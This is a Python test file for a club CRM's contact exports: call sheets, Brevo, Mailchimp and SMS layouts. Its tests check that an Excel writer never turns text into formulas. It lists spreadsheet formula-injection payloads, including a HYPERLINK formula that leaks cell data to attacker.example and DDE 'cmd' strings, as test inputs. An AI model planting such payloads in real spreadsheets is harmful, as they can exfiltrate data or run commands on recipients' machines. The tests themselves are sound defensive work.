"""Export layouts (call sheet, Brevo, Mailchimp, SMS gateway) and the Excel call sheet, whose
text cells can never become formulas."""

from __future__ import annotations

import io
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from arena.crm.prospection.call_sheet_xlsx import (
    call_sheet_xlsx_bytes,
    is_formula_like,
    write_call_sheet_xlsx,
)
from arena.crm.prospection.consent import ConsentRecord, consent_frame
from arena.crm.prospection.eligibility import allowed_contacts
from arena.crm.prospection.exports import (
    CALL_SHEET_COLUMNS,
    brevo_email_frame,
    brevo_sms_frame,
    call_sheet_frame,
    mailchimp_frame,
    personalize_sms,
    sms_gateway_frame,
)
from arena.crm.prospection.outcome_files import read_outcome_word

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]


def members() -> pd.DataFrame:
    return pd.DataFrame({
        "customer_id": [10, 11, 12, 13],
        "first_name": ["Anaïs", HOSTILE[0], "Jean-Pierre", "Léa"],
        "last_name": ["Martin", HOSTILE[1], "Durand", "Roux"],
        "email": ["anais@club.fr", "evil@club.fr", "jp@club.fr", "lea@club.fr"],
        "phone": ["06 12 34 56 78", "+33698765432", "+41 79 123 45 67", "+33611111111"],
        "city": ["Saint-Étienne", HOSTILE[2], "Genève", "Lyon"],
        "age": [34, 51, None, 28],
        "season_ticket_status": ["abonné depuis 2019", "", "ancien abonné", ""],
    })


def consents() -> pd.DataFrame:
    day = pd.Timestamp("2025-01-01")
    return consent_frame([ConsentRecord(c, ch, "opt_in", day, "form")
                          for c in (10, 11, 12) for ch in ("email", "sms", "phone")])


def test_the_call_sheet_lists_allowed_contacts_best_first_with_the_reasons() -> None:
    eligibility = allowed_contacts(members(), "phone", consents())
    sheet = call_sheet_frame(
        eligibility,
        probabilities=pd.Series({10: 0.42, 11: 0.87, 12: 0.15}),
        reasons=pd.Series({10: ["abonné depuis 6 saisons", "habite à 8 km"],
                           11: "a acheté 9 matchs cette saison"}),
        previous_outcomes=pd.Series({10: "call_back"}))
    assert list(sheet.columns) == list(CALL_SHEET_COLUMNS)
    assert sheet["customer_id"].tolist() == [11, 10, 12]  # 13 never said yes
    assert sheet["rank"].tolist() == [1, 2, 3]
    assert sheet["probability"].tolist() == [87.0, 42.0, 15.0]
    row = sheet.set_index("customer_id").loc[10]
    assert row["reasons"] == "abonné depuis 6 saisons ; habite à 8 km"
    assert row["phone"] == "+33612345678" and row["phone_display"] == "06 12 34 56 78"
    assert sheet.set_index("customer_id").loc[12, "phone_display"] == "+41 79 123 45 67"
    assert row["previous_outcome"] == "call_back" and row["outcome"] == ""
    # The sheet is data, not formulas: the writer neutralizes, the frame keeps the text as is.
    assert sheet.set_index("customer_id").loc[11, "first_name"] == HOSTILE[0]
    labelled = call_sheet_frame(eligibility, labels="fr")
    assert "Pourquoi l'appeler" in labelled.columns and "Résultat de l'appel" in labelled.columns


def test_email_tool_layouts_carry_only_what_an_email_campaign_needs() -> None:
    eligibility = allowed_contacts(members(), "email", consents())
    brevo = brevo_email_frame(eligibility)
    assert list(brevo.columns) == ["EMAIL", "FIRSTNAME", "LASTNAME", "EXT_ID"]
    assert brevo["EMAIL"].tolist() == ["anais@club.fr", "evil@club.fr", "jp@club.fr"]
    assert list(brevo_email_frame(eligibility, account_language="fr").columns) == [
        "EMAIL", "PRENOM", "NOM", "EXT_ID"]
    chimp = mailchimp_frame(eligibility, tags=("Réabonnement 2025",))
    assert list(chimp.columns) == ["Email Address", "First Name", "Last Name", "Tags"]
    assert set(chimp["Tags"]) == {"Réabonnement 2025"}
    assert "phone" not in " ".join(brevo.columns).lower()


def test_sms_layouts_write_numbers_in_e164_with_the_stop_mention() -> None:
    eligibility = allowed_contacts(members(), "sms", consents())
    assert brevo_sms_frame(eligibility)["SMS"].tolist() == ["+33612345678", "+33698765432",
                                                            "+41791234567"]
    gateway = sms_gateway_frame(eligibility, message="Bonjour $first_name, votre place vous attend",
                                stop_mention="STOP au 36111", with_plus=False)
    assert gateway["phone_number"].tolist() == ["33612345678", "33698765432", "41791234567"]
    assert gateway["message"].iloc[0] == "Bonjour Anaïs, votre place vous attend STOP au 36111"
    with pytest.raises(ValueError, match="STOP"):
        sms_gateway_frame(eligibility, message="Bonjour")
    assert personalize_sms("Offre. Stop au 36111", {}, "STOP au 36111") == "Offre. Stop au 36111"


def test_an_export_refuses_a_list_checked_for_another_channel_or_holding_the_control_group() -> None:
    with pytest.raises(ValueError, match="checked for sms"):
        brevo_email_frame(allowed_contacts(members(), "sms", consents()))
    listed = members().assign(group=["contacted", "control", "contacted", "contacted"])
    with pytest.raises(ValueError, match="control"):
        call_sheet_frame(allowed_contacts(listed, "phone", consents()))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_triggers_are_recognized(text: str) -> None:
    assert is_formula_like(text)


def test_the_excel_call_sheet_never_holds_a_formula(tmp_path) -> None:  # type: ignore[no-untyped-def]
    frame = pd.DataFrame({"customer_id": list(range(len(HOSTILE) + 2)),
                          "first_name": [*HOSTILE, "Anaïs", "bell\x07"],
                          "probability": [12.5] * (len(HOSTILE) + 2),
                          "outcome": [""] * (len(HOSTILE) + 2)})
    path = tmp_path / "appels.xlsx"
    write_call_sheet_xlsx(frame, path, outcome_column="outcome")
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    workbook = load_workbook(path)
    sheet = workbook.active
    for row, text in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=row, column=2)
        # XML readers turn a carriage return into a line feed; the text stays text.
        assert cell.data_type == "s" and cell.value in (text, text.replace("\r", "\n"))
        assert cell.quotePrefix
    assert sheet.cell(row=len(HOSTILE) + 2, column=2).value == "Anaïs"
    assert not sheet.cell(row=len(HOSTILE) + 2, column=2).quotePrefix
    assert sheet.cell(row=len(HOSTILE) + 3, column=2).value == "bell"  # control chars dropped
    assert sheet.cell(row=2, column=3).value == 12.5 and sheet.cell(row=2, column=3).data_type == "n"
    assert sheet.freeze_panes == "A2"
    (validation,) = sheet.data_validations.dataValidation
    assert validation.type == "list" and "D2" in str(validation.sqref)


def test_every_drop_down_choice_reads_back_as_an_outcome() -> None:
    from arena.crm.prospection.call_sheet_xlsx import OUTCOME_CHOICES
    for words in OUTCOME_CHOICES.values():
        assert all(read_outcome_word(word) is not None for word in words)


def test_a_real_call_sheet_round_trips_through_excel_bytes() -> None:
    eligibility = allowed_contacts(members(), "phone", consents())
    frame = call_sheet_frame(eligibility, probabilities=pd.Series({10: 0.4, 11: 0.9, 12: 0.2}),
                             labels="fr")
    data = call_sheet_xlsx_bytes(frame, outcome_column="Résultat de l'appel")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.cell(row=1, column=1).value == "Priorité"
    names = [sheet.cell(row=r, column=3).value for r in range(2, 5)]
    assert names == [HOSTILE[0], "Anaïs", "Jean-Pierre"]
    assert sheet.cell(row=2, column=3).quotePrefix
